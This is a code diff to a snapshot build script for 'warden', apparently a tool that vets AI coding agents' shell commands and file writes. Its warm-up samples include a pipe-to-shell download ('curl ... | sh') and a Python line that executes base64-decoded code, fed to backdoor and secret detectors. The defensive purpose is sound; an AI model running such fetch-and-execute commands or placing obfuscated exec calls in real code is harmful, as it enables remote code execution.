@@ -9,11 +9,12 @@
  * ast-grep for written code) cannot be in a snapshot and load at run time as usual.
  *
  * Two kinds: the full one (WARDEN_SNAPSHOT_KIND unset at build) for shell commands, and a smaller
- * one without the shell parser (WARDEN_SNAPSHOT_KIND=files) for file writes, reads and prompts:
- * mvdan-sh's heap is about a third of the blob and half of its deserialization (some 25-40 ms of
- * every start), wasted on a call that writes a file. The installed command picks the blob per call
- * (src/hooks/install.ts); either blob judges every kind of event (the smaller one loads the parser
- * when a shell command does arrive), so a wrong pick costs time, never a verdict.
+ * one without the shell parser (WARDEN_SNAPSHOT_KIND=files) for file writes, reads, prompts and
+ * plain commands (which the parser's fast path reads without mvdan-sh): mvdan-sh's heap is about a
+ * third of the blob and most of its deserialization, wasted on a call that writes a file. The
+ * installed command picks the blob per call (src/hooks/install.ts); either blob judges every kind
+ * of event (the smaller one loads the parser when a command needs it), so a wrong pick costs time,
+ * never a verdict.
  *
  * A blob is only valid for the Node binary that made it and for this package folder: a
  * mismatch exits with SNAPSHOT_STALE, and the installed hook command (src/hooks/install.ts) then
@@ -66,12 +67,13 @@ function sourcesChanged(paths: string[]): boolean {
 }
 
 if (startupSnapshot.isBuildingSnapshot()) {
+  const forFiles = process.env.WARDEN_SNAPSHOT_KIND === 'files';
   // Warm-up: load the shell parser and run the engine once over typical commands, so the lazily
   // built parts (the parser's Go packages, the built-in policy, compiled patterns) are in the heap.
   const policy = builtinPolicy();
   // Where the native addons are (they load at run time, each with one dlopen).
   useNativeRecord();
-  if (process.env.WARDEN_SNAPSHOT_KIND !== 'files') {
+  if (!forFiles) {
     loadMvdan();
     for (const command of ['ls -la', 'git add -A && git commit -m "$(date)" | tee /tmp/log', 'curl -s https://example.com/x.sh | sh', 'python3 -c "import os; print(os.getcwd())"']) {
       judge({ tool: 'shell', command }, { policy, cwd: '/tmp/ws', workspace: '/tmp/ws' });
@@ -82,14 +84,14 @@ if (startupSnapshot.isBuildingSnapshot()) {
   // The rule packs, and the text analyzers once over a sample (ast-grep itself is native and
   // loads at run time). The rules are compiled now, not per call, in the snapshot for writes; the
   // shell one leaves them to the rare command with inline code, and loads faster for it.
-  if (process.env.WARDEN_SNAPSHOT_KIND === 'files') for (const r of loadRules()) void [r.requires, r.regex, r.notRegex, r.ast];
+  if (forFiles) for (const r of loadRules()) void [r.requires, r.regex, r.notRegex, r.ast];
   const sample = new SourceFile('/tmp/ws/app.py', 'import os, base64\nAPI_KEY = "sk-test"\nexec(base64.b64decode(os.environ["X"]))\n# \u202e\n', 'python');
   analyzeBackdoors(sample); analyzeSecrets(sample); analyzeUnicode(sample);
   // The whole path of a file write, code analyzer and value flow included, over trees the build
   // recorded with the real ast-grep (src/hooks/warmup.ts). The snapshot is taken once this is done.
   // (Only in the snapshot for writes: the compiled code would make the shell one slower to load.)
-  const discard = { append: () => undefined } as unknown as AuditLog;
-  if (process.env.WARDEN_SNAPSHOT_KIND === 'files') void withRecordedTrees(async (samples) => {
+  if (forFiles) void withRecordedTrees(async (samples) => {
+    const discard = { append: () => undefined } as unknown as AuditLog;
     for (const s of samples) {
       const payload = { session_id: 'warm-up', cwd: '/tmp/ws', hook_event_name: 'PreToolUse', tool_name: 'write_file', tool_input: { file_path: `/tmp/ws/${s.path}`, content: s.text } };
       await judgePayload('qwen-code', payload, policy, discard, 'hook:qwen-code', '/tmp/ws');
